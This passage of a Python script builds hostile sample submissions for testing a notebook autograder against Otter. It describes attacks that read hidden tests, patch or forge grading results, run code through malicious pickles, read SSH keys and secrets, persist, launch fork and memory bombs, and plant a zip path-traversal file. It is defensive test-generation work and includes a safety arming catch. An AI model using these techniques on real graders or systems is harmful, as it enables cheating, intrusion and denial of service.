                "text/html": f"<p><strong>{question}</strong> passed! 💯</p>"}),
        ]
    return nb


def truncated_json() -> bytes:
    text = notebook_bytes(blank())
    return text[: int(len(text) * 0.6)]


def zero_cells() -> bytes:
    nb = blank()
    nb.cells = []
    return notebook_bytes(nb)


def bad_kernelspec() -> bytes:
    nb = reference()
    nb.metadata["kernelspec"] = {"name": "evil", "display_name": "Evil 1.0", "language": "evil"}
    nb.metadata["language_info"] = {"name": "evil"}
    return notebook_bytes(nb)


def missing_kernelspec() -> bytes:
    nb = reference()
    nb.metadata.pop("kernelspec", None)
    nb.metadata.pop("language_info", None)
    return notebook_bytes(nb)


EVIL_PY = b"import os\nos.system('touch /tmp/optgrade-hostile-zip-slip')\n"


def placeholder_notebook() -> nbformat.NotebookNode:
    nb = blank()
    add_placeholders(nb, "zip")
    return nb


def forged_results_source(attack: str) -> str:
    """The attack's header comment, then the forged results and where to put them, then its code."""
    lines = attack.splitlines(True)
    k = next(i for i, line in enumerate(lines) if not line.startswith("#"))
    shared = FORGED_RESULTS.replace("@@POINTS@@", json.dumps(POINTS))
    return "".join(lines[:k]) + shared + "\n\n" + "".join(lines[k:])


SAMPLES: list[Sample] = [
    # 1. reading hidden tests
    Sample("1-read-hidden-tests.ipynb", 1, as_bytes(early([READ_HIDDEN_TESTS], "read-hidden-tests")), "graded",
           "walks / (20 s budget), globs tests/*.py, /autograder, /opt, /checks, /probes, *autograder*.zip, img-002*, "
           "reads /proc/*/cwd and /proc/*/environ and the environment; prints it all and keeps it in variables"),
    Sample("1-answers-from-hidden-tests.ipynb", 1, as_bytes(answers_from_hidden_tests),
           "graded", "parses q1_1 labels, q2_2 statements and q3_stuck out of any hidden test or checks.py it finds "
           "(cwd tests/, ../source/tests, /autograder, /checks, a 10 s walk of /); answers nothing otherwise"),
    Sample("1-leak-via-public-test-messages.ipynb", 1,
           as_bytes(with_get_net(LEAK_GET_NET, "leak-get-net", prelude=[LEAK_COLLECT])), "graded",
           "collects hidden test files and the source of every grader-injected cell (pre_run_cell hook) and puts "
           "them into public-test failure messages (np.shape(img), model.output_shape); the test "
           "must find no hidden test text in the student's feedback"),
    # 2. patching the grader in the kernel
    Sample("2-patch-test-runner.ipynb", 2, as_bytes(early([PATCH_TEST_RUNNER], "patch-test-runner")), "graded",
           "wraps otter ExceptionTestFile.run: real tests run, then every TestCaseResult is rewritten as passed"),
    Sample("2-patch-grading-results.ipynb", 2, as_bytes(early([PATCH_GRADING_RESULTS], "patch-grading-results")),
           "graded", "otter GradingResults.__init__ sets every test file's score to its maximum; TestCaseResult "
           "always passed"),
    Sample("2-friendlier-checker.ipynb", 2, as_bytes(early([FRIENDLIER_CHECKER], "friendlier-checker")), "graded",
           "replaces otter.execute.Checker.check (and wraps Notebook.check) with a version that re-runs each test "
           "file with every test body replaced by pass"),
    Sample("2-rewrite-test-files.ipynb", 2, as_bytes(early([REWRITE_TEST_FILES], "rewrite-test-files")), "graded",
           "rewrites tests/*.py (cwd, ../source/tests, /autograder/source/tests) on disk with pass bodies"),
    Sample("2-input-transformer-after-q3.ipynb", 2, as_bytes(late([INPUT_TRANSFORMER], "input-transformer")),
           "graded", "reference q1-q3, then an IPython input transformer that rewrites every later cell incl. the "
           "grader's: Otter's final cell gives full marks, probe cells record NaN and passed public tests",
           base="after-q3"),
    # 3. patching what the tests rely on
    Sample("3-always-true-numpy.ipynb", 3, as_bytes(placeholders_after(ALWAYS_TRUE_NUMPY, "always-true-numpy")),
           "graded", "np.isclose/allclose/array_equal and np.testing.assert_* always agree; placeholder functions "
           "with the right shapes and wrong values"),
    Sample("3-always-true-numpy-after-q3.ipynb", 3,
           as_bytes(placeholders_after(ALWAYS_TRUE_NUMPY, "always-true-numpy", after_q3, CHECK_CELL.format("q3_stuck"),
                                       only=("read_data", "get_images"))),
           "graded", "reference q1-q3 (honest), then numpy patched to always agree and placeholder q4 functions",
           base="after-q3"),
    Sample("3-fake-np-module.ipynb", 3,
           as_bytes(placeholders_after(FAKE_NP_MODULE, "fake-np-module", anchor="import numpy as np")), "graded",
           "right after the notebook's `import numpy as np`, the global np becomes a fake module (numpy with "
           "isclose/allclose/array_equal always True, np.testing no-ops); placeholder functions"),
    Sample("3-caller-aware-builtins.ipynb", 3, as_bytes(placeholders_after(CALLER_AWARE_BUILTINS, "builtins")),
           "graded", "while grader.check/probe/Otter cells run (pre/post_run_cell hooks): builtins "
           "float/int/len/abs return "
           "always-equal numbers, isinstance/all say yes, AssertionError replaced, only for callers in tests/ "
           "probes/ checks code; placeholder functions"),
    Sample("3-zip-with-numpy-py.zip", 3,
           lambda: zip_bytes([(NOTEBOOK_NAME, notebook_bytes(placeholder_notebook())),
                              ("numpy.py", SHADOW_NUMPY_PY.encode())]), "graded",
           "zip: placeholder notebook + numpy.py that shadows numpy (loads the real one, then isclose etc. always "
           "True); only the notebook may be taken out of the zip"),
    # 4. lying return values
    Sample("4-always-equal-answers.ipynb", 4, as_bytes(always_equal_answers), "graded",
           "q1_1 labels are a str subclass equal to everything (survives str/strip/lower/upper); q3_gd_gets_stuck "
           "is an always-equal truthy object"),
    Sample("4-lying-histories.ipynb", 4, as_bytes(lying_histories), "graded",
           "sgd/sgd_momentum run no descent: history objects whose len() lies (164/40), whose entries float() to the "
           "reference first/last step and equal anything; a probe that reads only len() and the first/last entry "
           "is fooled, one that checks the whole trajectory is not"),
    Sample("4-get-net-perfect-predict.ipynb", 4, as_bytes(with_get_net(PERFECT_PREDICT, "perfect-predict")),
           "graded", "get_net returns a non-Keras object: compile/fit no-ops, predict looks patches up in "
           "data/img-001-gt.png, to_json names an unbuildable custom layer"),
    Sample("4-keras-lambda-layer.ipynb", 4, as_bytes(with_get_net(KERAS_LAMBDA, "keras-lambda")), "graded",
           "get_net returns Input-Lambda-Flatten-Dense; the Lambda (x*0) reads hidden files and patches numpy.mean "
           "to 1.0 for test/check callers in any process that builds or unsafely loads the model"),
    # 5. forging results
    Sample("5-write-results-files.ipynb", 5,
           as_bytes(early([forged_results_source(WRITE_RESULTS_FILES)], "write-results")), "graded",
           "writes full-marks results.json and results.pkl into /autograder/results, /output and results|out|output "
           "of the cwd's ancestors, read-only"),
    Sample("5-forge-results-pickle.ipynb", 5, as_bytes(early([FORGE_RESULTS_PICKLE], "forge-pickle")), "graded",
           "patches pickle.dump so Otter's final cell pickles full scores"),
    Sample("5-hooks-and-atexit.ipynb", 5, as_bytes(early([forged_results_source(HOOKS_AND_ATEXIT)], "hooks")),
           "graded", "post_run_cell/post_execute/atexit hooks rewrite every *.pkl in the temp dir and results.json "
           "with full marks; prints fake probe JSON and displays forged data (optgrade's mime type, made-up ones)"),
    Sample("5-background-rewriter.ipynb", 5,
           as_bytes(early([forged_results_source(BACKGROUND_REWRITER)], "background-rewriter")), "graded",
           "Popen(start_new_session) and a double fork + setsid keep rewriting results.json / result pickles with "
           "full marks for 60 s after the kernel ends"),
    Sample("5-forged-probe-records.ipynb", 5,
           as_bytes(early([FORGED_PROBE_RECORDS.replace("@@QUESTIONS@@", json.dumps(POINTS))], "forged-records")),
           "graded", "fake probe/verdict/done JSON lines on stdout, fds 1 and 2, the parent's pipes (and PID 1's "
           "when armed); a pre_run_cell hook displays a NaN record before each probe cell; IPython.display.display "
           "patched to rewrite probe records"),
    Sample("5-prefilled-forged-outputs.ipynb", 5, lambda: notebook_bytes(prefilled_outputs()), "graded",
           "blank template submitted with stale outputs: every grader.check cell already shows a passing probe "
           "record, stdout JSON and 'All test cases passed!'"),
    Sample("5-poison-verdict-cache.ipynb", 5, as_bytes(early([POISON_VERDICT_CACHE], "poison-cache", reference)),
           "graded", "the reference whose q4_quality probe record gets an error planted next to the 2019 network's "
           "data (IPython.display patched), after an honest copy filled the verdict cache; look-alike cache "
           "entries with full marks written to every writable folder",
           expected_total=None, base="reference-poison"),
    # 6. code execution in the grader
    Sample("6-malicious-results-pickle.ipynb", 6,
           as_bytes(early([MALICIOUS_PICKLES.replace("@@OTTER_LOG@@", repr(malicious_otter_log()))], "pickles")),
           "graded", "pickle.dump patched: Otter's results pickle becomes eval() of code that runs in the grader "
           "(marker file optgrade-hostile-pwned-results-pickle in its temp dir) and returns full marks; plants a "
           "malicious .OTTER_LOG (dill) in ., .., /autograder/submission, /tmp, ~"),
    Sample("6-zip-with-otter-log.zip", 6,
           lambda: zip_bytes([(NOTEBOOK_NAME, notebook_bytes(blank())), (".OTTER_LOG", malicious_otter_log())]),
           "graded", "zip: blank notebook + .OTTER_LOG whose unpickling runs code in Otter's runner (patches "
           "grade_notebook to full marks, marker optgrade-hostile-pwned-otter-log); only the notebook may be taken"),
    Sample("6-logging-socket-pickle.ipynb", 6, as_bytes(early([LOGGING_SOCKET], "logging-socket")), "graded",
           "sends a pickled 'log record' to Otter's log server (which unpickles it): code runs in the grader, "
           "patches its pickle.load to full marks, marker optgrade-hostile-pwned-log-socket"),
    # 7. denial of service (never run outside a container)
    Sample("7-sys-exit-after-q3.ipynb", 7, as_bytes(late([SYS_EXIT], "sys-exit")), "graded",
           "sys.exit(0): IPython reports SystemExit as an error and the notebook runs on", base="after-q3"),
    Sample("7-raise-baseexception-after-q3.ipynb", 7, as_bytes(late(RAISE_BASE, "raise-base")), "graded",
           "raise BaseException / KeyboardInterrupt / GeneratorExit in three cells: errors, the notebook runs on",
           base="after-q3"),
    Sample("7-os-exit-after-q3.ipynb", 7, as_bytes(late([OS_EXIT], "os-exit")), "crashed",
           "os._exit(0): the kernel dies; questions after it are never probed", base="after-q3"),
    Sample("7-ipython-exit-after-q3.ipynb", 7, as_bytes(late([IPYTHON_EXIT], "ipython-exit")), "crashed",
           "IPython exit(): the kernel stops its loop and exits after the cell", base="after-q3"),
    Sample("7-kill-parent-and-pid1-after-q3.ipynb", 7, as_bytes(late([KILL_PARENT], "kill-parent")), "any",
           "armed only: SIGINT/TERM/HUP/QUIT/USR1/KILL to the parent and PID 1, SIGKILL to every visible process; "
           "expected crashed (SIGINT raises KeyboardInterrupt in a Python PID 1 runner), graded if the runner "
           "shrugs it off", base="after-q3"),
    Sample("7-infinite-loop-after-q3.ipynb", 7, as_bytes(late([INFINITE_LOOP], "infinite-loop")), "timeout",
           "while True: pass", base="after-q3"),
    Sample("7-loop-ignoring-signals-after-q3.ipynb", 7, as_bytes(late([LOOP_IGNORING_SIGNALS], "ignore-signals")),
           "timeout", "ignores SIGINT/TERM/HUP/QUIT/USR1/USR2/ALRM and catches BaseException while looping; only "
           "SIGKILL/container kill stops it", base="after-q3"),
    Sample("7-print-100mb-after-q3.ipynb", 7, as_bytes(late([PRINT_100MB], "print-100mb")), "graded",
           "100 MB printed (iopub) + 100 MB written to the kernel's fd 1; the notebook then runs on", base="after-q3"),
    Sample("7-flood-records-channel-after-q3.ipynb", 7, as_bytes(late([FLOOD_RECORDS], "flood-records")), "any",
           "armed only: 100 MB of junk into every pipe of the parent and PID 1 (the records channel among them); "
           "expected crashed (output over the cap), graded if the channel is out of reach", base="after-q3"),
    Sample("7-fork-bomb.ipynb", 7, as_bytes(early([FORK_BOMB], "fork-bomb")), "any",
           "armed only: up to 10 000 forks, children setsid, ignore SIGTERM/INT/HUP and sleep 1 h; the pids limit "
           "stops it; expected graded or crashed (threads cannot start afterwards), timeout acceptable"),
    Sample("7-memory-bomb.ipynb", 7, as_bytes(early([MEMORY_BOMB], "memory-bomb")), "crashed",
           "armed only: 20 GB in 100 MB chunks, each filled; expected out of memory"),
    Sample("7-chmod-and-fill-disk.ipynb", 7, as_bytes(early([CHMOD_AND_FILL], "chmod-fill")), "any",
           "armed only: fills cwd, /tmp, /dev/shm, /work, ~ (max 8 GB) then chmod 0 every own directory bottom-up; "
           "expected graded (0), crashed acceptable"),
    # 8. leaks and persistence
    Sample("8-read-other-submissions-and-secrets.ipynb", 8,
           as_bytes(early([READ_OTHERS_AND_SECRETS], "read-others")), "graded",
           "lists /input, /autograder/submission, .., ../.., /work, /tmp, /output, /checks, /probes, /run/secrets; "
           "reads other notebooks, token-like env vars, docker socket/config, ~/.ssh, ~/.netrc, mountinfo"),
    Sample("8-network-access.ipynb", 8, as_bytes(early([NETWORK_ACCESS], "network")), "graded",
           "TCP to 1.1.1.1:53, 8.8.8.8:53, pypi.org:443 and an HTTPS request to PyPI, 5 s timeouts"),
    Sample("8-persist-for-next-submission.ipynb", 8, as_bytes(early([PERSISTENCE], "persistence")), "graded",
           "armed only: IPython startup file (numpy comparisons False, json.dumps broken), user kernelspec python3 "
           "that exits, .pth/sitecustomize/usercustomize that os._exit(3), .OTTER_LOG, appends failing tests to "
           "writable autograder zips / probes.py / checks.py; an honest submission graded after it must still get 27"),
    # 9. malformed input
    Sample("9-truncated-json.ipynb", 9, truncated_json, "invalid", "the blank template cut off after 60 %"),
    Sample("9-empty-file.ipynb", 9, lambda: b"", "invalid", "0 bytes"),
    Sample("9-zero-cells.ipynb", 9, zero_cells, "invalid", "valid nbformat 4 notebook (metadata kept) with no cells"),
    Sample("9-not-a-notebook.ipynb", 9, lambda: b'{"cells": "none", "metadata": [], "nbformat": "four"}\n',
           "invalid", "valid JSON, not a notebook"),
    Sample("9-bad-kernelspec-name.ipynb", 9, bad_kernelspec, "graded",
           "the reference with kernelspec name/language 'evil': the grader must run it in its own python3 kernel",
           expected_total=TOTAL, base="reference"),
    Sample("9-missing-kernelspec.ipynb", 9, missing_kernelspec, "graded",
           "the reference without kernelspec and language_info", expected_total=TOTAL, base="reference"),
    Sample("9-zip-without-notebook.zip", 9,
           lambda: zip_bytes([("README.txt", b"my solution is in solution.py\n"),
                              ("solution.py", b"q3_gd_gets_stuck = True\n")]), "invalid", "no .ipynb in the zip"),
    Sample("9-zip-with-two-notebooks.zip", 9,
           lambda: zip_bytes([(NOTEBOOK_NAME, notebook_bytes(blank())),
                              ("a5_optimization-final.ipynb", notebook_bytes(reference()))]), "invalid",
           "two notebooks (blank and reference): ambiguous"),
    Sample("9-zip-path-traversal.zip", 9,
           lambda: zip_bytes([(NOTEBOOK_NAME, notebook_bytes(reference())), ("../../evil.py", EVIL_PY),
                              ("/abs/evil.py", EVIL_PY)]), "invalid",
           "the reference plus members ../../evil.py and /abs/evil.py"),
    # 10. the trained-network points without honest training (the reference otherwise)
    Sample("10-weights-as-constant-lists.ipynb", 10, as_bytes(with_attack_net(constant_weights("lists"), "constants")),
           "graded", "get_net('glorot_uniform', 'zeros') alone returns a 93-parameter Conv2D(2,3) -> MaxPooling2D -> "
           "Flatten -> Dense(1) whose weights, fitted in the notebook on page 1's test split (the grader's held-out "
           "data), are Constant(<nested list>) initializers",
           base="attack-net", refused="weights as Constant initializers with list values", q4_net=CONSTANTS_NET),
    Sample("10-weights-as-constant-lists-frozen.ipynb", 10,
           as_bytes(with_attack_net(constant_weights("frozen"), "constants-frozen")), "graded",
           "as 10-weights-as-constant-lists, and every layer trainable=False so that training cannot move them",
           base="attack-net", refused="weights as Constant initializers with list values; layers not trainable",
           q4_net=CONSTANTS_NET),
    Sample("10-weights-as-numpy-constant.ipynb", 10,
           as_bytes(with_attack_net(constant_weights("numpy"), "numpy-constant")), "graded",
           "as 10-weights-as-constant-lists with numpy arrays inside Constant: to_json writes each as "
           "{\"class_name\": \"__numpy__\", \"config\": {\"value\": [...], \"dtype\": \"float32\"}}",
           base="attack-net", refused="an array (__numpy__ object) inside a Constant initializer",
           q4_net=CONSTANTS_NET),
    Sample("10-huge-build-config.ipynb", 10, as_bytes(with_attack_net(HUGE_BUILD_CONFIG, "huge-build-config")),
           "graded", "get_net('glorot_uniform', 'zeros') alone returns Flatten -> Dense(1024) -> Dense(1) whose "
           "to_json is edited: the first Dense layer's build_config input_shape is [None, 1100000] (1.1 G "
           "parameters: Keras 3.15 builds it while deserialising, 52 s and 14.6 GB peak, then rejects the shapes; "
           "it ran the checker out of memory before the parameter limit was checked)",
           base="attack-net", refused="1.1 G parameters as the JSON describes them (build_config included), over "
           "3 M, counted from the JSON without building anything; the same layers without that build_config would "
           "be a legal 232 k-parameter network that reaches 0.90, so a checker that drops build_config grades "
           "something other than what was submitted",
           q4_net=PASSED_THROUGH_NET),
    Sample("10-slow-legal-stack.ipynb", 10, as_bytes(with_attack_net(SLOW_LEGAL_STACK, "slow-legal-stack")),
           "graded", "get_net('glorot_uniform', 'zeros') alone returns 5 x Conv2D(256, 3, padding='same', relu) -> "
           "Flatten -> Dense(1, sigmoid): allowed layers, 7 besides the input, 2.42 M parameters, but about 56x the "
           "reference network's training FLOPs (531 M multiply-adds per patch against 9.43 M; a stack like it took "
           "437 s to train in the grader)",
           base="attack-net", refused="over the FLOP budget of 10x the reference network's training FLOPs, with a "
           "clear message, before any training", q4_net=PASSED_THROUGH_NET),
]


# What stock Otter makes of each sample: `otter run` 7.0.0 (no container, student code in the grading
# kernel) with the autograder zip of 2026-11-26 (hidden tests in probe/check form); in brackets where
# the earlier zip (plain hidden tests) differed. Measured once, by hand; documentation only. Class 7
# and the samples that read the environment or use the network were not run outside a container.
STOCK_OTTER = {
    "1-read-hidden-tests.ipynb": "not run (reads the environment)",
    "1-answers-from-hidden-tests.ipynb": "4.5 (q1_1 1.5, q2_2 2, q3_stuck 1) [5]",
    "1-leak-via-public-test-messages.ipynb": "0, but hidden test source in the visible public-test output",
    "2-patch-test-runner.ipynb": "27", "2-patch-grading-results.ipynb": "27", "2-friendlier-checker.ipynb": "27",
    "2-rewrite-test-files.ipynb": "27", "2-input-transformer-after-q3.ipynb": "27",
    "3-always-true-numpy.ipynb": "9 [10]", "3-always-true-numpy-after-q3.ipynb": "16 [17]",
    "3-fake-np-module.ipynb": "9 [10]", "3-caller-aware-builtins.ipynb": "0 [5]", "3-zip-with-numpy-py.zip": "9 [10]",
    "4-always-equal-answers.ipynb": "0 [2]", "4-lying-histories.ipynb": "5.5 (q3_sgd 2.5, q3_momentum 3)",
    "4-get-net-perfect-predict.ipynb": "0 [4]", "4-keras-lambda-layer.ipynb": "0 [4]",
    "5-write-results-files.ipynb": "0", "5-forge-results-pickle.ipynb": "27", "5-hooks-and-atexit.ipynb": "27",
    "5-background-rewriter.ipynb": "27", "5-forged-probe-records.ipynb": "0 (aims at the hardened grader)",
    "5-prefilled-forged-outputs.ipynb": "0", "5-poison-verdict-cache.ipynb": "not run (aims at optgrade's verdict cache)",
    "6-malicious-results-pickle.ipynb": "27, code ran in the grader (marker file)",
    "6-zip-with-otter-log.zip": "27, code ran in the grader (marker file)",
    "6-logging-socket-pickle.ipynb": "27, code ran in the grader (marker file)",
    "8-read-other-submissions-and-secrets.ipynb": "not run (reads the environment)",
    "8-network-access.ipynb": "not run (network)", "8-persist-for-next-submission.ipynb": "not run (unarmed: no-op)",
    "9-truncated-json.ipynb": "otter run fails, no results", "9-empty-file.ipynb": "otter run fails, no results",
    "9-zero-cells.ipynb": "0", "9-not-a-notebook.ipynb": "otter run fails, no results",
    "9-bad-kernelspec-name.ipynb": "otter run fails (no kernel named evil)", "9-missing-kernelspec.ipynb": "27",
    "9-zip-without-notebook.zip": "1 (grades solution.py as a script)",
    "9-zip-with-two-notebooks.zip": "otter run fails (two notebooks)",
    "9-zip-path-traversal.zip": "27 (extractall drops ../ and /)",
    # class 10: stock Otter not measured; instead the q4_quality check of optgrade a14974f (before the FLOP
    # budget and the weights/trainable rules), run on the sample's JSON
    "10-weights-as-constant-lists.ipynb": "not measured; optgrade a14974f's q4_quality check passed it (4)",
    "10-weights-as-constant-lists-frozen.ipynb": "not measured; optgrade a14974f's q4_quality check passed it (4)",
    "10-weights-as-numpy-constant.ipynb": "not measured; optgrade a14974f's q4_quality check refused __numpy__",
    "10-huge-build-config.ipynb": "not measured; Keras 3.15 deserialising its JSON: 52 s, 14.6 GB peak",
    "10-slow-legal-stack.ipynb": "not measured; 437 s of training in the grader for a stack like it",
}


def expected_total(sample: Sample) -> float:
    if sample.expected_total is not None:
        return sample.expected_total
    if sample.base == "blank":
        return 0.0
    if sample.base == "reference-poison":
        return float(TOTAL - POINTS["q4_quality"])
    if sample.base == "attack-net":
        if ([t for t, _, _ in sample.q4_net] != list(Q4_NET_TESTS) or sum(Q4_NET_TESTS.values()) != POINTS["q4_net"]
                or any(not 0 <= p <= Q4_NET_TESTS[t] for t, p, _ in sample.q4_net)):
            raise SystemExit(f"make_hostile: {sample.file} needs a verdict for each of {list(Q4_NET_TESTS)}")
        return float(TOTAL - POINTS["q4_quality"] - POINTS["q4_net"] + sum(p for _, p, _ in sample.q4_net))
    # after-q3: the questions whose check cells come before the first attack cell
    nb = nbformat.reads(sample.build().decode("utf-8"), as_version=4)
    return float(sum(POINTS[q] for q in questions_checked(nb, before_id="hostile-")))


def notes_for(sample: Sample, total: float) -> str:
    if sample.base == "after-q3":
        checked = " + ".join(f"{q} {POINTS[q]}" for q in POINTS if q.startswith(("q1", "q2", "q3")))
        return f"{sample.notes}; deserved: the reference's {checked} = {total:g} checked before the attack, q4 blank"
    if sample.base == "reference":
        return f"{sample.notes}; deserved: all {total:g} (unchanged reference)"
    if sample.base == "reference-poison":
        return (f"{sample.notes}; deserved: {total:g}, what a fresh check gives: the reference's points less "
                f"q4_quality ({POINTS['q4_quality']}), whose record carries an error, cache or no cache")
    if sample.base == "attack-net":
        tests = "; ".join(f"{test} {points:g}: {why}" for test, points, why in sample.q4_net)
        net = sum(points for _, points, _ in sample.q4_net)
        return (f"{sample.notes}; deserved: the reference's points on every other question, q4_quality 0 (refused "
                f"up front: {sample.refused}) and q4_net {net:g} ({tests}) = {total:g}; the checker must reach "
                f"its verdict without running out of memory or time")
    if sample.expected_status == "invalid":
        return f"{sample.notes}; deserved: 0 (not a usable submission: rejected as a whole, nothing runs)"
    return f"{sample.notes}; deserved: 0 (blank template)"


README = """\
# Hostile sample submissions

Generated by `python examples/hostile/make_hostile.py` (deterministic, a few seconds; reads
`assignment/a5_optimization.ipynb` and `solutions/reference/a5_optimization.ipynb` at run time, so
re-run it after they change). Do not edit the files by hand.

Each submission in `submissions/` attacks the grader. `expected.csv` says what it deserves:

| column | meaning |
|---|---|
| `file` | the submission in `submissions/` (the attack class number first) |
| `attack_class` | 1 reading hidden tests, 2 patching the grader in the kernel, 3 patching what tests rely on, 4 lying return values, 5 forging results, 6 code execution in the grader, 7 denial of service, 8 leaks and persistence, 9 malformed input, 10 the trained-network points (q4_quality) without honest training, or hurting the grader through the network's description |
| `expected_total` | the autograded points (of {total}) the submission deserves: 0 for the blank-template ones; for `*-after-q3` ones the reference's q1_1 … q3_stuck (checked before the attack) = 14, q4 is the blank template's; 27 for the unchanged reference; for class 10 (the reference, except that `get_net('glorot_uniform', 'zeros')` is the attack's network) the reference's 27 less q4_quality's 4 (refused) and the q4_net tests that network fails (each in the notes) |
| `expected_status` | `graded` / `timeout` / `crashed` / `invalid`, or `any` when more than one is truthful (the notes say which is expected) |
| `notes` | what the attack tries, and why the expected total is what it is |

How to use them (a grader passes a sample when):

- its total equals `expected_total`: no undeserved points, and no honestly earned point lost because
  of an attack that comes later in the notebook (questions probed before a timeout or crash keep
  their verdicts);
- its status matches `expected_status` (`any`: every status is acceptable);
- grading ends within the timeout (plus the checker's allowance), whatever the sample does;
- the student-visible output (feedback, public test messages) contains no hidden test text;
- an honest submission graded in the same batch, after these, still gets {total}/{total}.

## Safety

Grade these **only with the hardened container backend**. The destructive samples (fork bomb, memory
bomb, disk fill/chmod, killing processes, flooding pipes, persistence, writing to PID 1) act only when
*armed*: when the notebook runs as uid 10002 (the student user of the grading container) or with
`OPTGRADE_HOSTILE_ARMED=1`; elsewhere they print a refusal and do nothing (a safety catch of this
collection, not part of the attack). The other samples are bounded (walks 10–20 s, network 5 s,
rewriters 60 s) but still read the machine's files and environment and write results files near their
working folder: never run them with the local backend on a machine you care about, and never run class 7
outside a container.

## The samples

Last column: what stock Otter (`otter run`, student code in the grading kernel) gave the sample when
it was written; it shows the attack is real. See `STOCK_OTTER` in the script.

| file | class | expected total | expected status | what it does | stock `otter run` |
|---|---|---|---|---|---|
{rows}
"""


def write(out: Path) -> tuple[list[dict], list[Path]]:
    out.mkdir(parents=True, exist_ok=True)
    names = [s.file for s in SAMPLES]
    if len(set(names)) != len(names):
        raise SystemExit("make_hostile: duplicate sample names")
    for stale in out.iterdir():
        if stale.name not in names:
            stale.unlink()
    rows, written = [], []
    for sample in SAMPLES:
        if sample.expected_status not in STATUSES:
            raise SystemExit(f"make_hostile: bad status for {sample.file}")
        path = out / sample.file
        path.write_bytes(sample.build())
        written.append(path)
        total = expected_total(sample)
        rows.append({"file": sample.file, "attack_class": sample.attack_class, "expected_total": f"{total:g}",
                     "expected_status": sample.expected_status, "notes": notes_for(sample, total)})
    return rows, written


def check_points() -> None:
    """POINTS must be the autograder's: compare with autograder/hardened/checks.py when it exists
    (read with ast, never run)."""
    import ast

    if sum(POINTS.values()) != 27:
        raise SystemExit("make_hostile: POINTS must add up to 27")
    checks = ROOT / "autograder" / "hardened" / "checks.py"
    if not checks.exists():
        return
    values = {}
    for node in ast.parse(checks.read_text(encoding="utf-8")).body:
        if isinstance(node, ast.Assign) and len(node.targets) == 1 and getattr(node.targets[0], "id", "") in (
                "QUESTIONS", "POINTS"):
            values[node.targets[0].id] = ast.literal_eval(node.value)
    if set(values) == {"QUESTIONS", "POINTS"}:
        actual = {q: sum(values["POINTS"][t] for t in tests) for q, tests in values["QUESTIONS"].items()}
        if actual != {q: float(p) for q, p in POINTS.items()}:
            raise SystemExit(f"make_hostile: POINTS disagree with {checks.relative_to(ROOT)}: {actual}")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=HERE, help="folder for submissions/, expected.csv, README.md")
    args = parser.parse_args(argv)
    check_points()
    rows, written = write(args.out / "submissions")
    with open(args.out / "expected.csv", "w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=["file", "attack_class", "expected_total", "expected_status", "notes"],
                                lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    table = "\n".join(f"| `{r['file']}` | {r['attack_class']} | {r['expected_total']} | {r['expected_status']} | "
                      f"{r['notes'].replace('|', '/')} | {STOCK_OTTER.get(r['file'], 'not run (class 7)')} |"
                      for r in rows)
    (args.out / "README.md").write_text(README.format(total=TOTAL, rows=table), encoding="utf-8")
    for path in written:
        print(path.relative_to(ROOT) if path.is_relative_to(ROOT) else path)
    return 0


if __name__ == "__main__":
    sys.exit(main())
